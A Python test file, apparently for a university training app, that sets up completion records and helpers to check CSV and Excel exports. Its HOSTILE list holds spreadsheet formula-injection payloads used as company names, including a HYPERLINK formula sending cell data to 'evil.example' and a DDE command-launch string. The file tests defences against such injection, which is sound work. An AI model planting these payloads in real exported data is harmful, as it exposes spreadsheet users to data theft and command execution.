"""Completions of two universities to export, and the steps staff and administrators take:
the form, the job page its answer leads to, the file that page offers."""

import csv
import io
import zipfile
from datetime import timedelta
from urllib.parse import unquote

import openpyxl
import pytest

from app import clock
from tests.factories import csrf_of, make_company, make_completion, make_course, make_enrollment
from tests.html import page

TODAY = clock.today()
START, END = TODAY - timedelta(days=30), TODAY
DONE = TODAY - timedelta(days=5)
BEFORE = START - timedelta(days=1)  # out of the range
# Texts a spreadsheet would run as formulas, the full-width forms Chinese input methods type
# included, each a company's name.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&E2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝HYPERLINK(1)",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
]


@pytest.fixture
def data(session, university_a, university_b):
    """University A: one completion in the range per hostile company, one trainee with two
    completions in it (two courses), one completion before the range. University B: one
    completion in the range, its company in Qingdao."""
    course = make_course(session, university_a, code="SDUT-EXP-01", title="=1+1 纺织设计")
    second = make_course(session, university_a, code="SDUT-EXP-02")
    ids, companies = [], []
    for name in HOSTILE:
        company = make_company(session, name=name)
        enrollment, id_number = make_enrollment(session, course, company=company)
        make_completion(session, enrollment, course, completed_on=DONE)
        ids.append(id_number)
        companies.append(company)
    again, _ = make_enrollment(session, second, id_number=ids[0], company=companies[0])
    make_completion(session, again, second, completed_on=DONE)
    early, early_id = make_enrollment(session, second)
    make_completion(session, early, second, completed_on=BEFORE)
    course_b = make_course(session, university_b, code="QDU-EXP-01")
    enrollment_b, id_b = make_enrollment(
        session, course_b, name="李四", company=make_company(session, city_code="3702")
    )
    make_completion(session, enrollment_b, course_b, completed_on=DONE)
    session.commit()
    return {
        "course": course,
        "course_b": course_b,
        "ids": ids,
        "early_id": early_id,
        "id_b": id_b,
    }


def export(persona, path: str, **form):
    """The exports form sent as a browser sends it; the page it leads to (the job's page, or
    the form again with its errors)."""
    fields = {"csrf_token": csrf_of(persona.client, path), "date_from": START, "date_to": END}
    return persona.post(path, data={**fields, **form}, follow_redirects=True)


def download(persona, job_page):
    """The file the finished job's page offers."""
    assert job_page.status_code == 200, job_page.text
    link = page(job_page).select_one('a[href^="/exports/"][href$="/file"]')
    assert link is not None, "the job page offers no file"
    response = persona.get(link["href"])
    assert response.status_code == 200, response.text
    return response


def _bytes(response) -> bytes:
    return response if isinstance(response, bytes) else response.content


def workbook(response):
    """The workbook of a response (or of a file's bytes), read back with openpyxl."""
    return openpyxl.load_workbook(io.BytesIO(_bytes(response)))


def table(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def csv_rows(response) -> list[list[str]]:
    content = _bytes(response)
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Chinese Excel needs
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def no_formula(response) -> bool:
    with zipfile.ZipFile(io.BytesIO(_bytes(response))) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(archive.read(n) for n in sheets)
    return b"<f>" not in xml and b"<f " not in xml


def filenames(response) -> tuple[str, str]:
    """(filename*, filename) of the Content-Disposition, read as RFC 6266 says: the first
    decoded from RFC 8187's UTF-8'' form."""
    value = response.headers["content-disposition"]
    kind, *params = [p.strip() for p in value.split(";")]
    assert kind == "attachment"
    found = dict(p.split("=", 1) for p in params)
    charset, _language, encoded = found["filename*"].split("'", 2)  # RFC 8187 ext-value
    return unquote(encoded, encoding=charset, errors="strict"), found["filename"].strip('"')
